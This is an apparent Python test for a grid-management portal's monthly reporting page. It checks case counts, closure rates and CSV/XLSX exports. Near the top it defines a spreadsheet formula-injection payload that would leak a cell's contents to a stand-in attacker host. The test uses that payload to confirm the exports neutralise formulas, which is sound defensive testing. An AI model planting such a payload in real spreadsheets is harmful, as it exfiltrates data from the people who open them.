"""The yardstick: per month and per category, what went up, was accepted and closed, the closure rate and the
times, exported as CSV (formulas neutralised) and XLSX (read back with openpyxl, independently of the writer),
from cases that really went through the grid-platform stub."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import openpyxl

from portal.alarms import incidents as alarms
from portal.alarms.board import BOARD
from tests.grid_support import grid_stub, grid_yaml, records
from tests.portal_support import running_portal, wait_for, write_config
from tests.registry_support import admin_session, estate_csv, form, import_csv, plate_code

# An installer's category name that a spreadsheet would run as a formula.
EVIL = '=HYPERLINK("http://e.vil/?"&A2,"点击")'


async def test_the_yardstick_counts_times_and_exports(tmp_path: Path) -> None:
    stub = await grid_stub(tmp_path / "platform")
    try:
        more = f"""  categories:
    sos: {{category: "06", category_name: 扩展事件, subcategory: "0602", subcategory_name: '{EVIL}', urgency: urgent}}
"""
        extra = grid_yaml(tmp_path, stub.info["url"], more=more)
        async with running_portal(write_config(tmp_path, None, extra=extra)) as p:
            await stub.post("/callback-url", {"url": p.origin + "/api/grid/callback"})
            csrf = await admin_session(p)
            assert (await import_csv(p, csrf, estate_csv()))[0] == 200
            board = p.client.app[BOARD]
            for house in (("3", "2", "301"), ("3", "1", "101")):
                code = await plate_code(p, *house)
                page = await (await p.client.get(f"/p/{code}")).text()
                r = await form(p, f"/p/{code}/sos", {}, page.split('name="csrf" value="')[1].split('"')[0])
                assert r.status == 303
            await board.feed_now()
            incs = [i for i in await p.services.store.read(alarms.open_incidents) if i["type"] == "house.sos"]
            assert len(incs) == 2
            await board.act(incs[0]["id"], "ack", "office")
            # A problem report, forwarded.
            code = await plate_code(p, "3", "2", "302")
            page = await (await p.client.get(f"/p/{code}/report")).text()
            token = page.split('name="csrf" value="')[1].split('"')[0]
            r = await form(p, f"/p/{code}/report", {"category": "parking", "text": "消防通道被占"}, token)
            assert r.status == 303
            wid = await p.services.store.read(lambda c: c.execute("SELECT max(id) FROM work_items").fetchone()[0])
            r = await form(p, f"/grid/forward/{wid}", {}, csrf)
            assert r.status == 303
            got = await wait_for(lambda: _n(stub, 3), what="three cases at the platform")
            numbers = {
                c["number"]: c
                for c in await p.services.store.read(
                    lambda c: [dict(r) for r in c.execute("SELECT * FROM grid_cases ORDER BY id")]
                )
            }
            sos1, sos2, work = list(numbers)
            for n, steps in ((sos1, ("accepted", "closed")), (sos2, ("accepted",)), (work, ("returned",))):
                for st in steps:
                    await stub.post(f"/cases/{n}/status", {"status": st, "by": "中心"})
            assert len(got) == 3

            month = datetime.now(ZoneInfo("Asia/Shanghai")).strftime("%Y-%m")
            page = await (await p.client.get("/grid/reports")).text()
            assert 'id="yardstick"' in page and f'data-month="{month}"' in page
            assert "=HYPERLINK(&#34;http://e.vil/?&#34;&amp;A2" in page  # the name, escaped, as text
            r = await p.client.get("/grid/reports.csv")
            assert r.status == 200 and r.headers["Content-Type"].startswith("text/csv")
            raw = await r.read()
            assert raw.startswith("\ufeff".encode())
            rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
            head, body = rows[0], rows[1:]
            assert head[0] == "月份" and head[5] == "上报数" and head[10] == "办结率"
            by_sub = {r[3]: r for r in body}
            sos = by_sub["0602"]
            assert sos[0] == month and sos[4] == "'" + EVIL  # neutralised: a spreadsheet shows it as text
            assert (sos[5], sos[6], sos[7], sos[8], sos[9]) == ("2", "2", "2", "1", "0")
            assert sos[10] == "0.5" and float(sos[11]) >= 0 and float(sos[12]) >= 0 and float(sos[13]) >= 0
            park = by_sub["0513"]
            assert (park[2], park[4], park[5], park[8], park[9], park[10]) == (
                "街面秩序",
                "车辆乱停放",
                "1",
                "0",
                "1",
                "0.0",
            )
            r = await p.client.get("/grid/reports.xlsx")
            assert r.status == 200 and "spreadsheetml" in r.headers["Content-Type"]
            wb = openpyxl.load_workbook(io.BytesIO(await r.read()))
            ws = wb.active
            assert ws is not None and ws.title == "网格考核"
            values = [[c.value for c in row] for row in ws.iter_rows()]
            assert values[0][:2] == ["月份", "大类代码"]
            xrow = next(v for v in values[1:] if v[3] == "0602")
            cell = ws.cell(row=values.index(xrow) + 1, column=5)
            assert cell.value == EVIL and cell.data_type == "s"  # a string, not a formula
            assert xrow[5:10] == [2, 2, 2, 1, 0] and xrow[10] == 0.5
            # Bad input: a clear 400, nothing else.
            r = await p.client.get("/grid/reports.csv?from=2026-13")
            assert r.status == 400 and "YYYY-MM" in await r.text()
            r = await p.client.get("/grid/reports?from=2020-01&to=2026-01")
            assert r.status == 400 and "24" in await r.text()
            r = await p.client.get("/grid/reports?from=2026-05&to=2026-01")
            assert r.status == 400
            # A month with nothing.
            r = await p.client.get("/grid/reports?from=2001-01&to=2001-02")
            assert r.status == 200 and 'id="no-rows"' in await r.text()
    finally:
        await stub.stop()
        await stub.session.close()


async def _n(stub: object, n: int) -> dict[str, object] | None:
    got = await records(stub)  # type: ignore[arg-type]
    return got if len(got) >= n else None
